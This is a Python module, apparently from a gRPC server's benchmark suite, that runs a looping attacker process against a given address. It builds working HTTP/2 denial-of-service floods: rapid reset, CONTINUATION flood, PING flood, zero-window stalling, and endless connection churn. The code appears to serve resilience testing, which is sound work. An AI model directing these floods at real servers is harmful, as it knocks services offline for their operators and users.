"""An attacker on a server of gRPC, in a process of its own: `python -m bench.attacker ATTACK ADDRESS`.

It connects, sends as fast as the server takes it, and comes again whenever it is dropped, until it is killed. To tell
an attack from what any third busy process does on the same cores, it may also compute and leave the server alone.
"""

import select
import socket
import struct
import subprocess
import sys
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from bench.peers.methods import UNARY
from prism.wire.hpack.encoder import encode
from prism.wire.http2 import frames
from prism.wire.http2.settings import INITIAL_WINDOW_SIZE, encode_settings

COMPUTES = "no attack, a process that computes"
CONNECTIONS = "connections without end"

KEPT = 20
"""Connections that an attacker whose connections are not ended holds at a time."""

_RESET_AT_ONCE = struct.pack("ii", 1, 0)
_HEAD = encode(
    [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", UNARY.encode()),
        (b":authority", b"a"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
)


def _call(stream_id: int, size: int) -> bytes:
    message = frames.MESSAGE_HEAD.pack(0, size) + bytes(size)
    head = frames.frame(frames.HEADERS, frames.END_HEADERS, stream_id, _HEAD)
    return head + frames.frame(frames.DATA, frames.END_STREAM, stream_id, message)


def _rapid_reset() -> bytes:
    streams = range(1, 20_001, 2)
    return b"".join(_call(each, 1) + frames.rst_stream(each, frames.ErrorCode.CANCEL) for each in streams)


def _continuation() -> bytes:
    return frames.frame(frames.HEADERS, 0, 1, _HEAD) + frames.frame(frames.CONTINUATION, 0, 1, b"\x82") * 50_000


def _ping() -> bytes:
    return frames.frame(frames.PING, 0, 0, b"12345678") * 50_000


def _closed_windows() -> bytes:
    closed = encode_settings({INITIAL_WINDOW_SIZE: 0})
    return closed + b"".join(_call(each, 1000) for each in range(1, 1801, 2))


ATTACKS: dict[str, Callable[[], bytes]] = {
    COMPUTES: bytes,
    CONNECTIONS: bytes,
    "rapid reset": _rapid_reset,
    "CONTINUATION flood": _continuation,
    "PING flood": _ping,
    "windows never opened": _closed_windows,
}


@contextmanager
def attacking(name: str, address: str) -> Iterator[None]:
    """An attacker at work, from its first blow on."""
    command = [sys.executable, "-m", "bench.attacker", name, address]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        process.stdout.readline()
        try:
            yield
        finally:
            process.kill()


def attack(name: str, address: str) -> None:
    """Attacks until killed; says so after the first blow."""
    host, _, port = address.rpartition(":")
    if name == COMPUTES:
        print("attacking", flush=True)
        while True:
            pass
    blow = frames.PREFACE + encode_settings({}) + ATTACKS[name]()
    kept: deque[socket.socket] = deque()
    first = True
    while True:
        sock = socket.create_connection((host, int(port)))
        if name == CONNECTIONS:
            _knock(sock, blow)
        elif _strike(sock, blow):
            kept.append(sock)
        else:
            sock.close()
        if len(kept) > KEPT:
            kept.popleft().close()
        if first:
            print("attacking", flush=True)
            first = False


def _knock(sock: socket.socket, blow: bytes) -> None:
    """Begins as good clients do, and leaves with the server's first answer; by a reset, or ports would run out."""
    sock.sendall(blow)
    sock.recv(64)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET_AT_ONCE)
    sock.close()


def _strike(sock: socket.socket, blow: bytes) -> bool:
    """Sends it all, reading nothing; False where the server hangs up before the end, or ends it with GOAWAY."""
    try:
        sock.sendall(blow)
        # Taken whole: is there more than SETTINGS in the answer, or nothing more to come?
        readable, _, _ = select.select([sock], [], [], 1.0)
        return bool(readable and sock.recv(64))
    except ConnectionError:
        return False


if __name__ == "__main__":
    attack(*sys.argv[1:])
